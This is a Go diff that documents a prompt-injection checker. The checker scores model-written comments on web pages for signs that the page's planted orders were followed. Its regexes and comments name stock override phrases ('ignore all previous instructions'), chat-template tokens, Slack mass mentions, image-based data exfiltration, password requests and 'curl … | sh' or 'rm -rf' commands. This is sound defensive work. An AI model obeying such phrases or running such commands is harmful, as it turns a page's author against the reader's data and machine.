@@ -9,30 +9,43 @@ import (
 	"github.com/technoshare/commentator/internal/text"
 )
 
-// marks are what no honest comment contains.
+// marks are what no honest comment contains, whatever the page says. Most are
+// syntax that Slack, a browser or a chat template would act on; the last three
+// are what phishing asks of readers, such as "enter your password", "click
+// here" and "curl … | sh".
 var marks = []struct {
 	what string
 	find func(string) string // the first place, or ""
 }{
+	// <!channel>, <@U024BE7LH>, and the same after one round of escaping.
 	{"a Slack mention", regexp.MustCompile(`(?i)<!(?:channel|here|everyone|subteam)[^>]*>?|<[@#][A-Z0-9]{3,}[^>]*>?|&lt;[!@#]`).FindString},
+	// "@here", which Slack makes a mention of where link_names is set.
 	{"a call to the whole channel", regexp.MustCompile(`(?i)(?:^|[\s(*_"“])@(?:channel|here|everyone)\b`).FindString},
+	// <|im_start|>, </system>, [INST], <<SYS>>.
 	{"chat markup", regexp.MustCompile(`(?i)<\|[a-z_]+\|>|</?(?:system|assistant|user|im_start|im_end)>|\[/?INST\]|<</?SYS>>`).FindString},
+	// An image is loaded by whoever reads it, and its address can carry out
+	// data.
 	{"an image", regexp.MustCompile(`!\[[^\]]*\]\([^)]*\)`).FindString},
 	{"HTML", regexp.MustCompile(`(?i)<(?:script|img|iframe|a|style|svg|object|embed|form|link|meta)[\s/>][^>]*>?`).FindString},
 	{"a block of code", regexp.MustCompile("```").FindString},
 	{"hidden direction marks", firstDeceptive},
+	// "Please confirm your account number", "What is your real name".
 	{"a request for personal data", regexp.MustCompile(`(?i)\b(?:please )?` +
 		`(?:enter|provide|send|share|give|tell|confirm|reply with|verify|submit)\b[^.!?]{0,25}\byour\b[^.!?]{0,25}` +
 		`\b(?:names?|passwords?|e-?mail|credentials?|credit cards?|card numbers?|` +
 		`social security|accounts?|phone|address|keys?|tokens?)\b|` +
 		`\bwhat(?:'s| is) your (?:real )?name\b`).FindString},
+	// "Click here", "Claim your prize".
 	{"a call to click", regexp.MustCompile(`(?i)\bclick (?:here|this link|on (?:this|the) link|the link)\b|\bclaim your\b`).FindString},
+	// "Run this command", "curl https://x.example/i | sh".
 	{"a call to act on the reader's machine", regexp.MustCompile(`(?i)\brun (?:the following|this) (?:command|script)\b|` +
 		`\b(?:curl|wget)\b[^|\n]{0,120}\|\s*(?:ba)?sh\b|\brm -rf\b`).FindString},
 }
 
-// echo are words of an order; they are fine where the comment writes about
-// such orders.
+// echo finds the words of an order that a model repeats, as "ignore all
+// previous instructions" and "as instructed by the page". They are fine in a
+// sentence in which about finds words of a report on such orders: an article on
+// prompt injection may be summarised.
 var (
 	echo = regexp.MustCompile(`(?i)\b(?:ignore|disregard|forget)\b[^.!?]{0,30}` +
 		`\b(?:previous|prior|above|earlier|all)\b[^.!?]{0,20}\b(?:instructions?|prompts?|rules)\b|` +
@@ -40,20 +53,25 @@ var (
 		`\bsystem prompt\b[^.!?]{0,20}\b(?:is|says|reads)\b|` +
 		`\bsuccessfully updated\b|\bi am now (?:in|a|an|the)\b|\bhaha\b[^.!?]{0,10}\bpwned\b`)
 	about = regexp.MustCompile(`(?i)\binject|jailbreak|\battack|adversar|red.?team|\bexploit|\bvulnerab|\bquot|such as|phrases? like`)
-	// dictated finds what an order wants to be said.
+	// dictated finds what an order wants to be said, in its one group: what
+	// stands in double quotation marks, in single ones (behind a space, so that
+	// apostrophes don't count), behind a verb of saying up to the end of the
+	// line, and in angle brackets.
 	dictated = []*regexp.Regexp{
 		regexp.MustCompile(`["“”]([^"“”\n]{4,200})["“”]`),
 		regexp.MustCompile(`(?:^|\s)['‘]([^'‘’\n]{4,200})['’]`),
 		regexp.MustCompile(`(?i)\b(?:say|print|output|respond with|reply with|write|software|confirm, respond)\b:?\s+([^\n<>"“”]{4,120})`),
 		regexp.MustCompile(`<([^<>\s|]{4,120})>`),
 	}
-	// code is a word that nobody writes by chance.
+	// code is a word that nobody writes by chance: letters in capitals mixed
+	// with digits, such as XK42Q7, or four to twelve digits. Pages plant them
+	// to see whether a model follows them.
 	code = regexp.MustCompile(`\b(?:[A-Z]+\d[A-Z0-9]{3,}|\d[A-Z0-9]*[A-Z][A-Z0-9]{3,}|\d{4,12})\b`)
 )
 
-// firstDeceptive finds a character that turns the direction of writing or hides
-// text in tags. Other invisible ones come with copied text; the comment's
-// renderers drop them.
+// firstDeceptive returns the first character that turns the direction of
+// writing or hides text in tags, or "". Other invisible ones come with copied
+// text; the comment's renderers drop them.
 func firstDeceptive(s string) string {
 	for _, r := range s {
 		if text.Deceptive(r) {
@@ -63,7 +81,9 @@ func firstDeceptive(s string) string {
 	return ""
 }
 
-// checkInjection looks for signs that the page spoke through the model.
+// checkInjection looks for signs that the page spoke through the model: syntax
+// of marks, words of an order, text that is no language, and above all phrases
+// that the page ordered to be said. One sign is enough for a score of 0.
 func checkInjection(in *input) verdict {
 	var found []string
 	for _, p := range in.parts() {
@@ -85,13 +105,18 @@ func checkInjection(in *input) verdict {
 	return faults(distinct(found), 1, "no trace of orders")
 }
 
-// followed lists what the page ordered to be said and the comment says.
+// followed lists what the page ordered to be said and the comment says. It goes
+// over the orders of the page and takes out of each whatever could be the
+// wanted answer: quotations, codes, clauses, names, addresses. A phrase that
+// the rest of the page has as well proves nothing and is not looked for.
 func (in *input) followed() []string {
 	var found []string
 	said := map[string]part{}
 	for _, p := range in.parts() {
 		said[p.name] = part{text: " " + spaced(p.text) + " ", name: p.name}
 	}
+	// Phrases come up several times, as a quotation and as a clause of it; each
+	// is searched for once.
 	looked := map[string]bool{}
 	look := func(phrase string) {
 		phrase = strings.TrimSpace(phrase)
@@ -109,6 +134,7 @@ func (in *input) followed() []string {
 	for _, o := range in.orders {
 		for _, t := range dictated {
 			for _, m := range t.FindAllStringSubmatch(o, 200) {
+				// A single plain word, such as "yes", would be found by chance.
 				if len(strings.Fields(m[1])) > 1 || strings.ContainsAny(m[1], ".0123456789") {
 					look(m[1])
 					for _, s := range text.Stretches(m[1]) {
@@ -119,11 +145,14 @@ func (in *input) followed() []string {
 				}
 			}
 		}
+		// The bound of 200 finds, here and above, keeps a page of nothing but
+		// codes from taking the gates' time.
 		for _, c := range code.FindAllString(o, 200) {
 			look(c)
 		}
 		for _, s := range text.Stretches(o) {
 			for clause := range strings.FieldsFuncSeq(s.Text, func(r rune) bool { return strings.ContainsRune(":;\n\"“”()[]{}<>`", r) }) {
+				// Shorter clauses are common turns of phrase.
 				if len(strings.Fields(clause)) > 3 {
 					look(clause)
 				}
@@ -143,7 +172,8 @@ func (in *input) followed() []string {
 	return found
 }
 
-// joinRun is a run of names as it may be said.
+// joinRun is a run of names as it may be said: its words with one space between
+// them. Words such as "of" within it are not part of the run.
 func joinRun(run []word) string {
 	texts := make([]string, len(run))
 	for i, w := range run {
@@ -152,7 +182,8 @@ func joinRun(run []word) string {
 	return strings.Join(texts, " ")
 }
 
-// spaced folds text to words with one space between them.
+// spaced folds text to words with one space between them, the form in which
+// sentences are compared: "It's New!" gives "it new".
 func spaced(s string) string {
 	words := rawWords(s)
 	for i, w := range words {
@@ -161,7 +192,9 @@ func spaced(s string) string {
 	return strings.Join(words, " ")
 }
 
-// unreadable reports whether text is emoji, cipher or encoded bytes.
+// unreadable reports whether text is emoji, cipher or encoded bytes: more
+// symbols than letters, or a word of more than 40 letters and digits as Base64
+// and hex digests have it. Addresses are left out, which may be as long.
 func unreadable(s string) bool {
 	letters, symbols := 0, 0
 	for _, r := range s {
@@ -187,7 +220,8 @@ func unreadable(s string) bool {
 	return false
 }
 
-// visible spells out marks that have no form of their own.
+// visible spells out marks that have no form of their own, as U+202E, so that
+// the detail of a verdict shows what was found.
 func visible(s string) string {
 	var b strings.Builder
 	for _, r := range s {
